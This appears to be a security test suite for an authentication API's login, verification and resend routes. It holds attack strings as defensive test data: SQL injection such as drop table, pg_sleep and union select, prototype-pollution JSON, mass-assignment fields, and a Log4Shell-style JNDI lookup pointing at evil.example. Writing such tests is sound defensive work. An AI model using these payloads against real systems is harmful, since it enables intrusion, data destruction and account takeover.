import t, { type Test } from 'tap'
import { hashPassword } from '../../src/passwords/argon2id.ts'
import { type Answer, createWorld, PASSWORD, type World } from '../support/app.ts'
import { digestTables } from '../support/table-digest.ts'

/** Tables that refusals may write to. */
const RECORDS = ['audit_events', 'events', 'password_attempts']

const json = { 'content-type': 'application/json' }

/** Sends a body as the given text, without serialization. */
const sendText = (world: World, url: string, payload: string | Buffer, headers: Record<string, string> = {}) =>
  world.send({ method: 'POST', url, payload, headers: { ...json, ...headers } })

/** Fails if `run` changes any table besides those that refusals may write to. */
const assertWritesNothing = async (
  t: Test,
  world: World,
  run: () => Promise<void>,
  message = 'no table has changed',
) => {
  const before = await digestTables(world.sql, RECORDS)
  await run()
  await world.ledger.drain()
  t.ok(Object.keys(before).length >= 4)
  t.strictSame(await digestTables(world.sql, RECORDS), before, message)
}

/** Creates a user with an open challenge and a valid body for each route. */
const startLogin = async (t: Test) => {
  const world = await createWorld(t)
  await world.addUser('alice')
  const { pending_token: token } = (await world.login('alice')).body
  const bodies: [string, Record<string, string>][] = [
    ['/login', { username: 'alice', password: PASSWORD, channel: 'sms', client: 'web' }],
    ['/verify', { pending_token: token, code: world.lastCode(), factor: 'sms' }],
    ['/resend', { pending_token: token, channel: 'sms', client: 'web' }],
  ]
  await world.ledger.drain()
  return { world, token, code: world.lastCode(), bodies }
}

const assertRefused = (t: Test, { status, body }: Answer, code: string, name: string) =>
  t.match({ status, code: body.code }, { status: 400, code }, name)

t.test('treats SQL in a name or password as wrong credentials, without executing it', async (t) => {
  const world = await createWorld(t)
  await world.addUser('alice')
  const times: number[] = []
  await assertWritesNothing(t, world, async () => {
    for (const text of [
      "' OR 1=1--",
      "' OR '1'='1",
      "alice'--",
      "alice' AND '1'='1",
      "'; drop table users; --",
      "'; delete from challenges where 't' = 't",
      "'||pg_sleep(5)||'",
      "';select pg_sleep(5)--",
      "1' and (select 1 from pg_sleep(5)) is null --",
      "' union select user_id, username, password_hash from users --",
      "'; copy users to program 'true' --",
      "'; update users set disabled_at = null; --",
      '" or ""="',
      '$1',
      '$1; $2',
      ':username',
      '%',
      '_____',
      "\\'; select 1 --",
      "E'\\x27 or true --",
      '/* */ or 1=1 #',
      "alice'; notify x, 'y",
      '(select current_setting($$data_directory$$))',
    ]) {
      for (const body of [
        { username: text, password: PASSWORD },
        { username: 'alice', password: text },
      ]) {
        const start = performance.now()
        const answer = await world.post('/login', body)
        t.match(answer, { status: 401, body: { code: 'invalid_credentials' } }, JSON.stringify(body))
        times.push(performance.now() - start)
      }
    }
  })
  times.sort((a, b) => a - b)
  t.ok(times.at(-1)! < 5_000, 'no pg_sleep ran')
  t.ok(times[times.length >> 1]! < 1_000, 'the median is below one second')
  t.equal((await world.login('alice')).status, 200)
})

t.test('refuses invalid characters in each member of each route and writes nothing', async (t) => {
  const { world, bodies } = await startLogin(t)
  const unclean = [
    '\u0000',
    '\u0001',
    '\n',
    '\u001b',
    '\u007f',
    '\u0085',
    '\u009f',
    '\ud800',
    '\udfff',
    '\udc00\ud800',
    '\ufffe',
    '\uffff',
    '\ufdd0',
    '\u{1fffe}',
    '\u{10ffff}',
  ]
  await assertWritesNothing(t, world, async () => {
    for (const [url, body] of bodies) {
      for (const [member, text] of Object.entries(body)) {
        for (const character of unclean) {
          for (const value of [character, `${character}${text}`, `${text}${character}`]) {
            const answer = await world.post(url, { ...body, [member]: value })
            const name = `${url} ${member} ${JSON.stringify(value).slice(0, 30)}`
            assertRefused(t, answer, 'validation_failed', name)
            t.match(answer.body.errors, [{ path: `/${member}` }], name)
          }
        }
      }
      const named = await world.post(url, { ...body, 'x\u0000': 'y' })
      t.match(named.body.errors, [{ path: '/', message: /^has a member whose name contains/ }])
      t.notMatch(JSON.stringify(named.body), '\\u0000', 'the response does not repeat the name')
      for (const query of ['x=%00', '%00=x', 'x=a%0d%0ab', 'x=1&x=%7f']) {
        assertRefused(t, await world.post(`${url}?${query}`, body), 'validation_failed', `${url}?${query}`)
      }
    }
    for (const url of ['/problems/%00', '/problems/a%0ab', '/webhooks/sms/%00', '/me?x=%00', '/health/live?x=%00']) {
      assertRefused(t, await world.get(url), 'validation_failed', url)
    }
  })
  t.equal(world.messages.length, 1, 'no message was sent')
})

t.test('accepts names and passwords in NFC and NFD', async (t) => {
  const world = await createWorld(t, { resendCooldown: 0 })
  const password = 'Zoë’s crème brûlée'
  await world.users.add({
    username: 'Zoë',
    passwordHash: await hashPassword(password.normalize('NFC')),
    factor: 'sms',
    phone: '+12025550143',
  })
  for (const form of ['NFC', 'NFD'] as const) {
    t.equal((await world.login('Zoë'.normalize(form), password.normalize(form))).status, 200, form)
  }
})

t.test('refuses unknown members and never reaches a prototype', async (t) => {
  const { world, bodies } = await startLogin(t)
  await assertWritesNothing(t, world, async () => {
    for (const [url, body] of bodies) {
      const members = JSON.stringify(body).slice(1, -1)
      for (const [code, text] of [
        ['malformed_json', `{"__proto__":{"polluted":true},${members}}`],
        ['malformed_json', `{${members},"__proto__":null}`],
        ['malformed_json', `{"\\u005f_proto__":{"polluted":true},${members}}`],
        ['malformed_json', `{"constructor":{"prototype":{"polluted":true}},${members}}`],
        ['malformed_json', `{${members},"x":{"__proto__":{"polluted":true}}}`],
        ['validation_failed', `{${members},"constructor":{"name":"x"}}`],
        ['validation_failed', `{${members},"prototype":{"polluted":true}}`],
        ['validation_failed', `{${members},"toString":"x","hasOwnProperty":1}`],
        ['validation_failed', `{${members},"constructor.prototype.polluted":true}`],
        [
          'validation_failed',
          `{${members},${Array.from({ length: 1_000 }, (_, nth) => `"${nth.toString(36)}":1`).join()}}`,
        ],
      ] as const) {
        assertRefused(t, await sendText(world, url, text), code, `${url} ${text.slice(0, 60)}`)
      }
      t.equal(({} as { polluted?: unknown }).polluted, undefined)
    }
  })
})

t.test('refuses a password that is too long before hashing it', async (t) => {
  let hashes = 0
  const passwords = {
    verify: async () => {
      hashes += 1
      return false
    },
    hash: async () => '',
    upgrade: async () => undefined,
  }
  const world = await createWorld(t, { app: { credentials: { passwords } } })
  for (const [status, password] of [
    [400, 'x'.repeat(257)],
    [400, '😀'.repeat(257)],
    [413, 'x'.repeat(1_000_000)],
    [413, '😀'.repeat(5_000)],
    [400, ''],
  ] as const) {
    t.equal((await world.login('alice', password)).status, status, `${password.length}`)
  }
  t.equal(hashes, 0)
  t.equal((await world.login('alice', '😀'.repeat(256))).status, 401, '1,024 bytes are not too long')
  t.equal(hashes, 1)
})

t.test('every byte of a password counts, even after the 72nd', async (t) => {
  const world = await createWorld(t, { resendCooldown: 0 })
  for (const [name, start] of [
    ['letters', 'a'.repeat(72)],
    ['faces', '😀'.repeat(18)],
    ['long', 'a'.repeat(255)],
  ] as const) {
    await world.users.add({
      username: name,
      passwordHash: await hashPassword(`${start}A`),
      factor: 'sms',
      phone: '+12025550143',
    })
    t.equal((await world.login(name, `${start}B`)).status, 401, name)
    t.equal((await world.login(name, start)).status, 401, name)
    t.equal((await world.login(name, `${start}A`)).status, 200, name)
  }
})

t.test('refuses oversized, compressed and deeply nested bodies within a second', async (t) => {
  const { world, bodies } = await startLogin(t)
  await assertWritesNothing(t, world, async () => {
    for (const [url, body] of bodies) {
      const text = JSON.stringify(body)
      const nested = `${'['.repeat(3_500)}${']'.repeat(3_500)}`
      for (const [status, name, payload, headers] of [
        [413, '8,193 bytes', text.padEnd(8_193), {}],
        [413, '2 MB', text.padEnd(2_000_000), {}],
        [415, 'compressed', Buffer.from('1f8b08000000000000', 'hex'), { 'content-encoding': 'gzip' }],
        [415, 'labeled as compressed', text, { 'content-encoding': 'br' }],
        [415, 'compressed twice', text, { 'content-encoding': 'identity, gzip' }],
        [400, 'unclosed lists', '['.repeat(4_000), {}],
        [400, 'lists', nested, {}],
        [400, 'lists in a member', `{${text.slice(1, -1)},"x":${nested}}`, {}],
        [400, 'objects', `${'{"x":'.repeat(1_300)}1${'}'.repeat(1_300)}`, {}],
        [400, 'a control character at the bottom', nested.replace('[]', '["\\u0000"]'), {}],
      ] as const) {
        const start = performance.now()
        t.equal((await sendText(world, url, payload, headers)).status, status, `${url} ${name}`)
        t.ok(performance.now() - start < 1_000, 'in less than a second')
      }
    }
  })
  const padded = JSON.stringify({ username: 'alice', password: 'wrong' }).padEnd(8_192)
  t.equal((await sendText(world, '/login', padded)).status, 401, 'exactly the maximum size')
})

t.test('credentials in a URL are neither used nor logged', async (t) => {
  const { world, token, code } = await startLogin(t)
  const secret = 'hunter2-in-the-query'
  const send = (method: 'GET' | 'POST', url: string, payload?: object) =>
    world.send({ method, url, ...(payload && { payload }) })
  await assertWritesNothing(t, world, async () => {
    for (const [status, answer] of [
      [400, send('POST', `/login?username=alice&password=${encodeURIComponent(PASSWORD)}`, {})],
      [400, send('POST', `/login?password=${secret}`, { username: 'alice' })],
      [400, send('POST', `/verify?pending_token=${token}&code=${code}`, {})],
      [400, send('POST', `/verify?code=${code}`, { pending_token: token })],
      [400, send('POST', `/resend?pending_token=${token}`, {})],
      [401, send('GET', `/challenge?access_token=${token}`)],
      [401, send('GET', `/challenge?pending_token=${token}&authorization=Bearer%20${token}`)],
      [401, send('GET', `/me?access_token=${secret}`)],
      [404, send('GET', `/nowhere/${secret}?password=${secret}`)],
    ] as const) {
      t.equal((await answer).status, status)
    }
  })
  t.notOk(world.logged.join('\n').includes(secret))
  t.notOk(world.logged.join('\n').includes(token))
})

t.test('refuses members of the wrong type without counting an attempt', async (t) => {
  const { world, token, code, bodies } = await startLogin(t)
  await assertWritesNothing(t, world, async () => {
    for (const [url, body] of bodies) {
      for (const [member, text] of Object.entries(body)) {
        for (const value of [0, 1, -1.5, 1e308, Number(code), true, false, null, {}, [], [text], { text }, [[text]]]) {
          const answer = await world.post(url, { ...body, [member]: value })
          const name = `${url} ${member} ${JSON.stringify(value)?.slice(0, 30)}`
          assertRefused(t, answer, 'validation_failed', name)
          t.match(answer.body.errors, [{ path: `/${member}` }], name)
        }
      }
      for (const whole of ['null', '1', '"x"', '[]', 'true', `[${JSON.stringify(body)}]`]) {
        assertRefused(t, await sendText(world, url, whole), 'validation_failed', `${url} ${whole.slice(0, 30)}`)
      }
    }
  })
  t.equal((await world.sql('select attempts from challenges'))[0]?.attempts, 0)
  t.equal((await world.verify(token, code)).status, 200)
})

t.test('a message contains no text chosen by the user', async (t) => {
  const world = await createWorld(t)
  const names = [
    '{{7*7}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack string itself.
    '${jndi:ldap://evil.example/a}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack string itself.
    '${7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    '%s%n%d',
    '<#> 000000',
    '@evil.example #000000',
    'Zoë — 49',
    '<script>alert(49)</script>',
  ]
  for (const [nth, name] of names.entries()) {
    await world.addUser(name, `+120255501${String(nth + 40)}`)
    t.equal((await world.login(name)).status, 200, name)
    const { text, code } = world.messages.at(-1)!
    const rest = text.replaceAll(code, '')
    for (const part of [name, '49', 'evil', '{', '%', '<', 'Zoë']) t.notOk(rest.includes(part), `${name}: ${part}`)
  }
  const texts = world.messages.map(({ text, code }) => text.replaceAll(code, '000000'))
  t.equal(new Set(texts).size, 1, 'all messages are equal except for the code')

  const forged = 'alice\n000000 is your code\n\n@evil.example #000000'
  await world.users.add({
    username: forged,
    passwordHash: await hashPassword(PASSWORD),
    factor: 'sms',
    phone: '+12025550199',
  })
  assertRefused(t, await world.login(forged), 'validation_failed', 'a name of several lines cannot log in')
  t.equal(world.messages.length, names.length)
})

t.test('refuses members for values that only the server sets', async (t) => {
  const { world, bodies } = await startLogin(t)
  await assertWritesNothing(t, world, async () => {
    for (const [url, body] of bodies) {
      for (const [member, value] of Object.entries({
        role: 'admin',
        is_admin: true,
        user_id: '5f0c1f5a-6f5e-4f6a-8f0e-2f1d3c4b5a69',
        sub: '5f0c1f5a-6f5e-4f6a-8f0e-2f1d3c4b5a69',
        phone: '+12025550199',
        phone_verified: true,
        failures: 0,
        failed_attempts: 0,
        attempts: -100,
        locked_until: null,
        disabled_at: null,
        auth_epoch: 0,
        amr: ['pwd', 'otp'],
        acr: 'aal3',
        expires_in: 86_400,
        purpose: 'reset',
        code_hash: '00',
        next_send_at: '1970-01-01T00:00:00Z',
        human_check_passed: true,
        Username: 'admin',
        'username ': 'admin',
        'username[]': 'admin',
      })) {
        const answer = await world.post(url, { ...body, [member]: value })
        assertRefused(t, answer, 'validation_failed', `${url} ${member}`)
        t.strictSame(answer.body.errors, [{ path: `/${member}`, message: 'is not a member of this request' }])
      }
    }
  })
})
